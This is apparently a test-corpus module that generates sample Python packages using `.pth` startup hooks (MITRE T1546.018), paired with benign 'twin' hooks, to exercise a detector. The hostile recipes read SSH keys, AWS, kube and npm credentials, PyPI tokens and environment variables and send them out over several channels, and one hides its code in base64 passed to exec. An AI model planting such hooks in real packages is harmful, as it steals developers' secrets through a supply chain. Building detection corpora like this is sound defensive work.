"""T03: a `.pth` file starts code with every interpreter (MITRE ATT&CK T1546.018).

Used to be rare and is not any more; nothing has to be imported. T03b, the `.start` file of PEP 829,
needs Python 3.15 (not_seen.py). The twins are what honest hooks are: coverage asks one variable,
setuptools' distutils-precedence does too, namespace packages extend a path.
"""

from __future__ import annotations

import base64

from models.phase import Phase
from tests.corpus.guard import IF_ACT, acting
from tests.corpus.recipe import THE_ACT, Channel, Encoding, Recipe
from tests.corpus.recipes import senders
from tests.corpus.recipes.senders import sending

HOOK = "import THE_MODULE_hook\n"
ASKS_VARIABLE = 'os.environ.get("COVERAGE_PROCESS_START")'
EXTENDS_PATH = """
import sys
sys.path.append(str(pathlib.Path(__file__).parent / "THE_MODULE_vendor"))
"""
PATCHES_OWN = """
import sys
sys.modules.setdefault("THE_MODULE_distutils", type(os)("THE_MODULE_distutils"))
"""
IN_A_THREAD = """
import threading
if ACT:
    threading.Thread(target=THE_ACT).start()
"""


def line(act: str) -> str:
    """A `.pth` with all its code in one line of base64."""
    head = sending(senders.TCP, Encoding.BASE64)
    reads = '_send(_wrap((HOME / ".aws/credentials").read_bytes()))'
    code = acting(reads, ASKS_VARIABLE, head=head).replace(THE_ACT, act)
    text = base64.b64encode(code.encode()).decode()
    return f"import base64; exec(base64.b64decode('{text}'), {{'__name__': 'hook'}})\n"


def hook(name: str, channel: Channel, encoding: Encoding, sender: str, **acts: str) -> Recipe:
    """A `.pth` that imports a module beside it."""
    return Recipe(
        technique="T03",
        name=name,
        phase=Phase.START,
        channel=channel,
        encoding=encoding,
        files={
            "THE_MODULE.pth": HOOK,
            "THE_MODULE_hook.py": acting(
                acts["reenact"],
                acts["honest"],
                acts.get("tail", IF_ACT),
                sending(sender, encoding),
            ),
            "THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does=acts["twin_does"],
    )


RECIPES = (
    hook(
        "module-http",
        Channel.HTTP,
        Encoding.PLAIN,
        senders.HTTP,
        reenact='_send(_wrap((HOME / ".ssh/id_ed25519").read_bytes()))',
        honest=ASKS_VARIABLE,
        twin_does="asks for one variable, as coverage does",
    ),
    hook(
        "module-https-environment",
        Channel.HTTPS,
        Encoding.JSON,
        senders.HTTPS,
        reenact="_send(_wrap(repr(sorted(os.environ.items())).encode()))",
        honest=EXTENDS_PATH,
        twin_does="extends the path, as namespace packages do",
    ),
    hook(
        "module-dns",
        Channel.DNS,
        Encoding.BASE32,
        senders.DNS,
        reenact='_send(_wrap(os.environ.get("PYPI_TOKEN", "").encode()))',
        honest=PATCHES_OWN,
        twin_does="registers a module of its own, as distutils-precedence does",
    ),
    hook(
        "thread-udp",
        Channel.UDP,
        Encoding.ZLIB,
        senders.UDP,
        reenact='_send(_wrap((HOME / ".kube/config").read_bytes()))',
        honest=ASKS_VARIABLE,
        tail=IN_A_THREAD,
        twin_does="asks for one variable in a thread",
    ),
    hook(
        "child-process",
        Channel.PROCESS,
        Encoding.PLAIN,
        senders.CHILD,
        reenact='_send(_wrap((HOME / ".npmrc").read_bytes()))',
        honest=EXTENDS_PATH,
        twin_does="extends the path",
    ),
    Recipe(
        technique="T03",
        name="one-line-tcp",
        phase=Phase.START,
        channel=Channel.TCP,
        encoding=Encoding.BASE64,
        files={"THE_MODULE.pth": line("_reenact"), "THE_MODULE/__init__.py": '"""Nothing."""\n'},
        twin_files={"THE_MODULE.pth": line("_honest")},
        twin_does="asks for one variable, out of base64 too",
    ),
    Recipe(
        technique="T03",
        name="quiet-write",
        phase=Phase.START,
        channel=Channel.NONE,
        encoding=Encoding.NONE,
        files={
            "THE_MODULE.pth": HOOK,
            "THE_MODULE_hook.py": acting(
                'with (HOME / ".bashrc").open("a") as file:\n    file.write("# reenact\\n")',
                'pathlib.Path("/tmp/THE_MODULE.cache").write_text("# reenact\\n")',
            ),
        },
        twin_does="writes a cache of its own",
    ),
)
